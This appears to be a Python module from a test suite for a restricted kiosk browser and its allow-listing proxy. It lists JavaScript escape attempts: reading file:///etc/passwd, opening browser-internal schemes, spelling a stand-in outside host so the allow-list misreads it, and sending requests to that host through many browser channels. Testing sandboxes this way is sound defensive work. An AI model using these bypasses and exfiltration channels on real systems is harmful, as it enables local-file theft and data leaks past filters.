"""Leaving by an address: schemes that browsers know, and hosts written so that a list takes them for others."""

from __future__ import annotations

from typing import Any

from proof.escapes.pages.page_technique import PageTechnique
from proof.escapes.technique import Way

GOES = "page-goes-anywhere"
"""Weakness: a browser that opens whatever it is asked to, and obeys where Chromium itself says no."""
OPEN = "page-reaches-anything"
"""Weakness: a proxy without a list."""


def _scheme(name: str, title: str, js: str, *, short: bool = False, weakness: str = GOES, **more: Any) -> PageTechnique:
    return PageTechnique(
        id=f"PG-SCHEME-{name}",
        title=title,
        tries="show something else than the procedure's sites: a file, a setting, a program",
        family="page: schemes",
        js=js,
        shows=(Way.ORIGIN, Way.PROCESS, Way.TOLD),
        weakness=weakness,
        short=short,
        **more,
    )


def _host(name: str, title: str, js: str, *, short: bool = False, **more: Any) -> PageTechnique:
    return PageTechnique(
        id=f"PG-HOST-{name}",
        title=title,
        tries="reach a host that the procedure does not allow",
        family="page: allow-list",
        js=js,
        shows=(Way.LEFT, Way.TOLD),
        weakness=OPEN,
        short=short,
        **more,
    )


def _all_of(addresses: str) -> str:
    return f"for (const address of {addresses}) await go(address);"


_SCHEMES = (
    _scheme("FILE", "a link to a file of the machine", 'await go("file:///etc/passwd");', short=True),
    _scheme(
        "FILE-SPELT",
        "a file's address in other spellings",
        _all_of(
            '["FiLe:///etc/passwd", "file://localhost/etc/passwd", "file:\\\\\\\\etc\\\\passwd", " fi\\nle:/etc/hosts"]'
        ),
    ),
    _scheme("DATA", "a page inside of its own address", 'await go("data:text/html,<h1>dehors</h1>");', short=True),
    _scheme(
        "VIEW-SOURCE",
        "a page's source",
        'for (const a of [OUT, HOME]) await go("view-source:" + a + "/"); await sleep(300);',
    ),
    _scheme(
        "CHROME", "the browser's own pages", _all_of('["chrome://gpu", "chrome://net-internals", "chrome://version"]')
    ),
    _scheme(
        "DEVTOOLS",
        "the browser's tools",
        _all_of('["devtools://devtools/bundled/inspector.html", "chrome-devtools://x"]'),
    ),
    _scheme("QRC", "what Qt carries", _all_of('["qrc:/qtwebchannel/qwebchannel.js", "qrc:///"]')),
    _scheme(
        "PROGRAMS",
        "addresses that start programs",
        _all_of(
            '["mailto:a@b.fr", "tel:0102030405", "news:x", "sms:1", "intent://x#Intent;end", "ftp://x/", "ssh://x", "steam://x"]'
        ),
    ),
    _scheme(
        "EXTERNAL-FRAME",
        "a program's address in a frame",
        'for (const a of ["mailto:a@b.fr", "ms-word:x", "web+x:y"]) put("iframe", {src: a}); await sleep(200);',
    ),
    _scheme(
        "BLOB-NAMELESS",
        "a page of an origin that nobody can name",
        """
        const frame = put("iframe", {sandbox: "allow-scripts allow-top-navigation"});
        frame.srcdoc = "<script>top.location = URL.createObjectURL(new Blob(['<h1>dehors'], {type: 'text/html'}))<\\/script>";
        await sleep(400);""",
    ),
    _scheme(
        "ABOUT",
        "blank and inner addresses",
        _all_of(
            '["about:srcdoc", "chrome-error://chromewebdata/", "filesystem:https://piege.exercice/temporary/x",'
            ' "about:version", "about:net-internals", "about:blank#x", "about:blank"]'
        ),
    ),
    _scheme(
        "META",
        "a page that sends itself to a file",
        "await sleep(400);",
        head='<meta http-equiv=refresh content="0;url=file:///etc/passwd">',
    ),
    _scheme(
        "REFRESH",
        "an answer that sends to a page in an address",
        'location.href = "/words?refresh=" + encodeURIComponent("0;url=data:text/html,dehors") + "&body=" + encodeURIComponent("<script src=/socle.js data-id=PG-SCHEME-REFRESH data-turn=" + TURN + "><\\/script>"); await sleep(50); tried();',
        says_so=False,
        lasts=1.2,
    ),
    _scheme(
        "REDIRECT",
        "an answer that redirects to a file",
        'for (const to of ["file:///etc/passwd", "data:text/html,x", "chrome://gpu"]) { await go("/r/302?to=" + encodeURIComponent(to)); await sleep(150); }',
    ),
    _scheme(
        "FORM",
        "a form that is sent to a file",
        'for (const action of ["file:///etc/passwd", "data:text/html,x"]) { put("form", {action, method: "get"}).submit(); await sleep(150); }',
    ),
    _scheme(
        "WINDOW",
        "inner addresses in a new window",
        'for (const a of ["file:///etc/passwd", "data:text/html,x", "chrome://gpu", "view-source:" + HOME]) { const made = kid(a); await sleep(200); made?.close(); await sleep(200); }',
        by="click",
    ),
    _scheme(
        "HISTORY",
        "back to before the first page",
        "history.go(-50); await sleep(300); history.back(); await sleep(300);",
    ),
    _scheme(
        "OPENER",
        "the page behind, led away by its new window",
        """
        const other = kid(FRIEND + "/words?body=" + encodeURIComponent("<script>opener.location='data:text/html,x';opener.location='file:///etc/passwd'<\\/script>"));
        await sleep(700); other?.close();""",
        by="click",
    ),
    _scheme(
        "READ",
        "a file's content, by all that reads",
        """
        const read = "file:///etc/passwd";
        await soon(async () => { const text = await (await fetch(read)).text(); if (text.includes("root") || text.includes("user")) won("fetch read a file"); });
        await soon(() => new Promise((done) => { const ask = new XMLHttpRequest(); ask.onloadend = done; ask.onload = () => ask.responseText && won("XHR read a file"); ask.open("GET", read); ask.send(); }));
        await soon(() => import(read)); put("iframe", {src: read}); put("object", {data: read}); put("embed", {src: read});
        await soon(() => { new Worker(read); });
        await sleep(200);
        for (const frame of document.querySelectorAll("iframe")) try { if (frame.contentDocument.body.textContent) won("a frame shows a file"); } catch { /* another origin */ }
        """,
        weakness="page-reads-files",
    ),
)

_FORMS = {
    "PLAIN": ("another site's address", '[OUT + "/"]', True),
    "USERINFO": ("an allowed name before an @", '["https://piege.exercice@dehors.exercice/", "https://piege.exercice:443@dehors.exercice/", "https://piege.exercice%40dehors.exercice/", "https://piege.exercice%00@dehors.exercice/"]', True),
    "SLASHES": ("slashes that are not what they seem", '["https:\\\\\\\\dehors.exercice\\\\", "https:/dehors.exercice/", "//dehors.exercice", "https://dehors.exercice%2fpiege.exercice/", "https://dehors.exercice\\\\@piege.exercice/"]', False),
    "DOT": ("a name with a last dot", '["https://dehors.exercice./", "https://dehors.exercice.:443/"]', False),
    "CASE": ("capital letters", '["HTTPS://DEHORS.EXERCICE/", "https://DeHors.Exercice/"]', False),
    "LONGER": ("an allowed name inside of a longer one", '["https://piege.exercice.dehors.exercice/", "https://xpiege.exercice/", "https://autre.piege.exercice/"]', False),
    "LETTERS": ("letters that look alike", '["https://pi\\u00e8ge.exercice/", "https://\\u0440iege.exercice/", "https://piege.exercice\\u3002dehors.exercice/", "https://xn--pige-6oa.exercice/"]', False),
    "NUMBERS": ("addresses in digits", '["https://192.0.2.1/", "https://3221225985/", "https://0xc0000201/", "https://0300.0.02.01/", "https://192.0.513/", "https://10.0.0.1/", "https://127.0.0.1/", "https://0/"]', False),
    "IPV6": ("addresses of the new kind", '["https://[::1]/", "https://[::ffff:127.0.0.1]/", "https://[fe80::1]/", "https://[2001:db8::1]/"]', False),
    "PORTS": ("an allowed name, another door", '["https://piege.exercice:8443/", "https://piege.exercice:22/", "https://piege.exercice:80/", "https://piege.exercice:1/"]', False),
    "PLAIN-HTTP": ("without encryption", '["http://dehors.exercice/", "http://piege.exercice:81/"]', False),
    "LOCAL": ("names of the local network", '["https://localhost/", "https://localhost.localdomain/", "https://poste/", "https://intranet/", "https://routeur.local/"]', False),
}  # fmt: skip


def _asked_with(work: str) -> str:
    return f"const address = OUT + '/' + ID; await soon(async () => {{ {work} }}); await sleep(250);"


_ASKED = {
    "FETCH": ("a question from a script", "await fetch(address, {mode: 'no-cors'}); await fetch(address);", True),
    "XHR": ("an old question from a script", "const ask = new XMLHttpRequest(); ask.open('POST', address); ask.send('x');", False),
    "BEACON": ("a last word", "navigator.sendBeacon(address, 'x');", False),
    "PICTURE": ("a picture, a film, a font, a style", "new Image().src = address; put('video', {src: address}); put('link', {rel: 'stylesheet', href: address + '.css'}); await new FontFace('x', `url(${address}.woff2)`).load();", False),
    "SCRIPT": ("a script from elsewhere", "put('script', {src: address}); await import(address);", False),
    "FRAME": ("a frame, an object", "put('iframe', {src: address}); put('object', {data: address}); put('embed', {src: address});", False),
    "FORM": ("a form", "put('iframe', {name: 'f'}); const form = put('form', {action: address, method: 'post', target: 'f'}); form.submit();", False),
    "SOCKET": ("a WebSocket", "for (const a of ['wss://dehors.exercice/ws', 'ws://dehors.exercice/ws', 'wss://127.0.0.1/ws']) new WebSocket(a);", True),
    "EVENTS": ("a stream of events", "new EventSource(address);", False),
    "HINTS": ("what browsers fetch ahead", "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']) put('link', {rel, href: address, as: 'script'}); const rules = put('script', {type: 'speculationrules'}); rules.textContent = JSON.stringify({prefetch: [{urls: [address]}], prerender: [{urls: [address]}]}); await sleep(500);", True),
    "PING": ("a link that tells of being pressed", "put('a', {href: '#x', ping: address}).click();", False),
    "WORKER": ("a worker's question", "new Worker(URL.createObjectURL(new Blob([`fetch('${address}', {mode: 'no-cors'}); importScripts('${address}.js')`])));", False),
    "SERVICE-WORKER": ("a service worker's question", "const reg = await navigator.serviceWorker.register('/ouvrier.js'); await navigator.serviceWorker.ready; reg.active.postMessage(address); await sleep(600); await reg.unregister();", False),
    "REDIRECT": ("a redirect on an allowed site", "for (const status of [301, 302, 303, 307, 308]) await soon(() => fetch(`/r/${status}?to=${address}`, {mode: 'no-cors'})); await go('/r/302?to=' + address);", True),
    "REPORT": ("what browsers report", "put('img', {src: 'data:image/gif,x'}); await sleep(800);", False),
    "STYLE": ("style sheets that ask", "const sheet = put('style', {}); sheet.textContent = `@import '${address}.css'; body{background:url(${address}.png)} main{list-style:url(${address}.svg)}`; await sleep(300);", False),
    "SVG": ("a drawing that asks", "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${address}.png'/><use href='${address}.svg#x'/></svg>`); await sleep(300);", False),
    "TUNNEL-FROM-FRIEND": ("another allowed site's frame that asks", "put('iframe', {src: FRIEND + '/words?body=' + encodeURIComponent(`<script>fetch('${address}', {mode: 'no-cors'})<\\/script>`)}); await sleep(500);", False),
    "DOOR": ("the way to the proxy itself, inside of the sandbox", "for (const a of ['http://127.0.0.1:8118/', 'http://localhost:8118/x?host=dehors.exercice', 'http://kiosk.invalid/last?host=dehors.exercice']) await soon(async () => { const text = await (await fetch(a)).text(); won('the proxy answers a page: ' + text.slice(0, 40)); }); for (const a of ['ws://127.0.0.1:8118/', 'ws://localhost:8118/']) new WebSocket(a); await soon(() => fetch('https://dehors.exercice:8118/', {mode: 'no-cors'}));", False),
}  # fmt: skip

_REPORTS = {
    "Content-Security-Policy": "img-src 'none'; report-uri https://dehors.exercice/rapport",
    "Report-To": '{"group":"dehors","max_age":10,"endpoints":[{"url":"https://dehors.exercice/rapport"}]}',
    "Reporting-Endpoints": 'dehors="https://dehors.exercice/rapport"',
    "NEL": '{"report_to":"dehors","max_age":10,"success_fraction":1}',
    "Link": "<https://dehors.exercice/avant.css>; rel=preload; as=style, <https://dehors.exercice>; rel=preconnect",
}

TECHNIQUES = (
    *_SCHEMES,
    *(_host(f"TO-{name}", title, _all_of(them), short=short) for name, (title, them, short) in _FORMS.items()),
    *(
        _host(f"BY-{name}", title, _asked_with(work), short=short, headers=_REPORTS if name == "REPORT" else {})
        for name, (title, work, short) in _ASKED.items()
    ),
)
